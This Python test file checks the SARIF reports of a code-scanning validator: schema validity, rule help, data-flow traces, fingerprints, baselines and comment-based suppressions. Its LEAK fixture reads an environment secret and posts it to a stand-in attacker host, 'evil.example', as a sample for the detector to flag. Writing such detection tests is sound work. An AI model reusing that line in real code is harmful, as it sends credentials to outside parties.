"""Promises of SARIF: valid by the official schema, rules with help, flows, fingerprints, suppressions."""

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from validator.rulebook.load import Rulebook
from validator.scan.block import Recipe, inspect_block
from validator.scan.judged import Judged
from validator.scan.reports.context import Context
from validator.scan.reports.sarif import write_sarif
from validator.scan.sample import Place, Sample, single
from validator.scan.tally import tallied

SCHEMA = Draft202012Validator(json.loads((Path(__file__).parent / "schemas/sarif-2.1.0.json").read_text()))
LEAK = "import os, requests\nkey = os.environ['KEY']\nrequests.post('https://evil.example', data=key)\n"
Log = Callable[..., dict[str, Any]]


@pytest.fixture
def log(book: Rulebook) -> Log:
    """The only run of the log of some samples, which is valid."""

    def write(*samples: Sample, known: frozenset[str] = frozenset(), compared: bool = False) -> dict[str, Any]:
        file, context = io.StringIO(), Context(book, version="0.1.0", compared=compared)
        judged = judge(*samples, known=known)
        write_sarif(tallied(zip(samples, judged, strict=True), context.tally), context, file)
        whole = json.loads(file.getvalue())
        SCHEMA.validate(whole)
        return dict(whole["runs"][0])

    return write


def judge(*samples: Sample, known: frozenset[str] = frozenset()) -> list[Judged]:
    return list(inspect_block(tuple(map(single, samples)), Recipe("balanced", known=known).prepare()))


def program(content: str, name: str = "a b/ü.py") -> Sample:
    return Sample(name, content, "", Place(name, inside=True), key=name, own=True)


def test_a_log_of_everything_there_can_be_is_valid(log: Log) -> None:
    cell = Sample("n.ipynb#cell-2", "import os\nos.system('date')", place=Place("n.ipynb", part="cell 2"))
    broken = Sample("d.jsonl:3", b"{\xff", "the record is not JSON", Place("d.jsonl", 3))
    run = log(program(LEAK), cell, broken, Sample("\ud800", "eval('\ud800')"), program("def", "/abs/x.py"))
    assert {"unreadable.record", "shell-command"} <= {result["ruleId"] for result in run["results"]}


def test_a_log_without_results_is_valid(log: Log) -> None:
    assert log()["results"] == []


def test_every_rule_has_help_a_level_and_a_security_severity(log: Log) -> None:
    for rule in log()["tool"]["driver"]["rules"]:
        assert rule["help"]["text"]
        assert rule["defaultConfiguration"]["level"] in ("note", "warning", "error")
        assert 0 <= float(rule["properties"]["security-severity"]) <= 10


def test_a_result_names_its_rule_and_the_stretch_of_the_file(log: Log) -> None:
    run = log(program("import os\nos.system('date')"))
    result = next(each for each in run["results"] if each["ruleId"] == "shell-command")
    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == "shell-command"
    location = result["locations"][0]["physicalLocation"]
    assert location["artifactLocation"]["uri"] == "a%20b/%C3%BC.py"
    assert (location["region"]["startLine"], location["region"]["startColumn"]) == (2, 1)
    assert location["region"]["snippet"]["text"] == "os.system('date')"


def test_a_flow_is_told_from_where_the_data_is_read_to_where_it_goes(log: Log) -> None:
    flows = [result["codeFlows"] for result in log(program(LEAK))["results"] if "codeFlows" in result]
    steps = flows[0][0]["threadFlows"][0]["locations"]
    lines = [step["location"]["physicalLocation"]["region"]["startLine"] for step in (steps[0], steps[-1])]
    assert lines == [2, 3]


def marks(content: str, name: str = "x.py") -> set[str]:
    return {found.fingerprint for found in judge(program(content, name))[0].findings}


def test_fingerprints_survive_moved_and_indented_lines() -> None:
    code = "import os\nos.system('date')"
    assert marks(code) == marks("# more\n\nx = 1\nimport os\nif x:\n    os.system('date')")
    assert marks(code).isdisjoint(marks(code.replace("date", "true")))
    assert marks(code).isdisjoint(marks(code, "y.py"))


def test_the_same_line_twice_has_two_fingerprints() -> None:
    code = "import os\nos.system('date')"
    assert marks(code) < marks(f"{code}\nos.system('date')")


def test_what_the_baseline_has_is_unchanged_and_does_not_count(log: Log) -> None:
    old = "import os\nos.system('date')"
    known = frozenset(marks(old))
    (judged,) = judge(program(old, "x.py"), known=known)
    assert (judged.outcome.value, judged.counted.value) == ("review", "allow")
    run = log(program(f"{old}\nos.system('true')", "x.py"), known=known, compared=True)
    assert {result["baselineState"] for result in run["results"]} == {"unchanged", "new"}
    (more,) = judge(program(f"{old}\nos.system('true')", "x.py"), known=known)
    assert more.counted.value == "review"


def test_what_a_comment_accepts_is_a_suppression_in_the_source(log: Log) -> None:
    code = "import os\nos.system('date')  # validator: ignore[shell-command, program-started] ours\n"
    run = log(program(code))
    kinds = [result["suppressions"][0] for result in run["results"] if "suppressions" in result]
    assert kinds == [{"kind": "inSource", "justification": "ours"}] * len(kinds) != []


def test_a_comment_that_accepts_nothing_is_a_notification(log: Log) -> None:
    (note,) = log(program("x = 1  # validator: ignore[shell-command]"))["invocations"][0]["toolExecutionNotifications"]
    assert "gives no reason" in note["message"]["text"]
